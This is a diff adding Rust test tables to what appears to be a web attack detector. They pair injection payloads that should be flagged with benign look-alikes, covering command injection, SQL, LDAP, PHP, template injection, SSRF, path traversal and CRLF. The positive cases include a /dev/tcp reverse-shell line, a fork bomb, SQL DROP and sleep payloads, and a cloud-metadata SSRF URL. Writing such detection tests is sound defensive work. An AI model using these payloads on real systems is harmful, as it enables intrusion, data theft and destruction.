@@ -263,3 +263,227 @@ fn session_identifiers_of_common_frameworks_in_urls() {
         &["session_id", "sessions", "sid_list", "page", "csrf_token"],
     );
 }
+
+#[test]
+fn admin_commands_standing_alone_and_mail_commands_after_a_line_break() {
+    table(
+        "cmdi",
+        Q,
+        &[
+            "visudo",
+            "nohup ifconfig",
+            "time ifconfig",
+            "ansible-vault decrypt secret",
+            "'cscli' alerts list",
+            "chef-shell",
+            "strace who",
+            "chmod 777 /tmp/x",
+            "alias +m a=b",
+            "bin/visudo",
+            "/usr/bin/python3 -m http.server",
+            "pi<()ng 127.0.0.1",
+            "1;.shell whoami",
+            "d=/dev&&(sh)0>$d/tcp/10.0.0.1/777",
+            "f(){ f|f& };f",
+            "() {",
+        ],
+        &[
+            "how to read ifconfig output",
+            "how do I use visudo safely?",
+            "ansible-httpget",
+            "nohup",
+            "chmod permissions tutorial",
+            "time flies like an arrow",
+            "bin/",
+            "ping me at 10",
+            "v1.2.shell",
+            "myfunction(){ echo hello }",
+            "function () { return x }",
+        ],
+    );
+    table(
+        "mail",
+        Q,
+        &[
+            "\r\na001 EXAMINE INBOX",
+            "\r\nRETR 123",
+            "\r\nQUIT",
+            "\nA1 list \"INBOX/\" \"*\"",
+        ],
+        &[
+            "Dear team,\r\nquit smoking today",
+            "line one\r\nlist of items",
+            "a001",
+        ],
+    );
+}
+
+#[test]
+fn sql_breaks_commented_out_opened_with_operators_or_keywords() {
+    table(
+        "sqli",
+        Q,
+        &[
+            "x'|email--",
+            "id'not like id--",
+            "user'collate nocase--",
+            "z'or email notnull--",
+            "'alter a",
+            "\" UNION A",
+            "xor 2 <",
+            "or 'a' >",
+            "OR 1#",
+            "OR '{\"a\":\"b\"}' ?| array['a']",
+            "OR '{\"a\":2}' -> '$.a' = 2",
+            "DROP sampletable;--",
+            "SELECT/*x*/password/**/FROM/**/Members",
+            "2010-01-01' sleep(20.to_i) '",
+            "1 AS \"foobar\" FROM t",
+        ],
+        &[
+            "it's -- great",
+            "'Union Square' is busy",
+            "l'union européenne",
+            "or else! and then?",
+            "Is it 1 or 2? 3 maybe",
+            "x -> y",
+            "drop it",
+            "exec (",
+            "Rock 'n' roll --",
+            "2 as well from here",
+        ],
+    );
+}
+
+#[test]
+fn ldap_breakouts_next_to_whole_filters() {
+    table(
+        "ldap",
+        Q,
+        &[
+            "eb9adbd87d)!(sn=*",
+            "value)(gidNumber<=100",
+            "john)(sn~=smith",
+            "val)&(cn=admin",
+            "test) ( & ",
+            "*(|(objectclass=*))",
+            "admin)(",
+        ],
+        &[
+            "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
+            "(userAccountControl:1.2.840.113556.1.4.803:=67108864)(&(objectCategory=group))",
+            "(a+b)*c",
+            "(1+2)+(3+4)",
+            "call me (maybe) later",
+        ],
+    );
+}
+
+#[test]
+fn php_tags_need_code_and_callables_built_from_strings() {
+    table(
+        "php",
+        Q,
+        &[
+            "<?php echo 1; ?>",
+            "<? php echo \"test\"",
+            "<?xml :echo 1;",
+            "<?xml ();echo 1;",
+            "(sy.(st).em)('uname');",
+            "(['system'])[0]('uname');",
+            "$y = 'sys'.'tem';($y)('uname');",
+            "define('x', 'sys' . 'tem');(x)/* c */('uname');",
+            "fopen  (blah)",
+            "exec //comment\r\n (blah)",
+        ],
+        &[
+            "<?php",
+            "&lt;? should not trigger",
+            "<?xml version=\"1.0\"?>",
+            "<?xml-stylesheet href=\"a.xsl\"?>",
+            "see (page 4)('quoted') below",
+        ],
+    );
+    table(
+        "ssti",
+        Q,
+        &["<%= 7*7 %>", "<%= system('id') %>", "<%= if True %>"],
+        &["<%=title%>", "<%= title %>"],
+    );
+    table(
+        "nodejs",
+        Q,
+        &["while(!``);", "while(new Date);", "while(!!1);"],
+        &["while(!true);", "while (running) {"],
+    );
+}
+
+#[test]
+fn protocol_smuggling_and_serialized_java_at_every_alignment() {
+    table(
+        "protocol",
+        FieldKind::HeaderValue,
+        &["application/x-www-form-urlencoded;boundary=\"application/json\""],
+        &[
+            "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk",
+            "text/html; charset=UTF-8",
+            "application/json",
+        ],
+    );
+    table(
+        "java",
+        FieldKind::BodyValue,
+        &["KztAAU", "Cs7QAF", "rO0ABQ"],
+        &["KztAA", "s7QA", "eyJ0eXAiOiJKV1QifQ"],
+    );
+    table(
+        "ssrf",
+        Q,
+        &[
+            "http://7147006462/",
+            "acap://①②⑦.⓪.⓪.①",
+            "irc://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ",
+            "http://169。254。169。254/",
+            "http://google.com:80 &@127.88.23.245:22/",
+        ],
+        &[
+            "http://example.com/",
+            "mailto:bob@example.com",
+            "https://example.org/a@b",
+        ],
+    );
+}
+
+#[test]
+fn parameter_pollution_proxy_sockets_and_cookie_versions() {
+    table(
+        "protocol",
+        FieldKind::QueryName,
+        &["foo[1]a", "foo[1]a[2]"],
+        &["foo[1]", "foo[]", "a[b][c]", "filter"],
+    );
+    table(
+        "protocol",
+        Q,
+        &["unix:AAAAAAAA|http://example.com/"],
+        &["unix: a|b", "http://unix.example/"],
+    );
+    table(
+        "protocol",
+        FieldKind::CookieName,
+        &["$Version"],
+        &["version", "$ver"],
+    );
+    table(
+        "lfi",
+        FieldKind::Path,
+        &["/@fs/etc/passwd", "/@id/__x00__"],
+        &["/users/@me", "/@scope/package"],
+    );
+    table(
+        "crlf",
+        Q,
+        &["x\r\nRemote-Addr: 10.0.0.1", "x\r\nLocation: http://a/"],
+        &["x\r\nLocation:\r\n", "notes\r\nlocation"],
+    );
+}
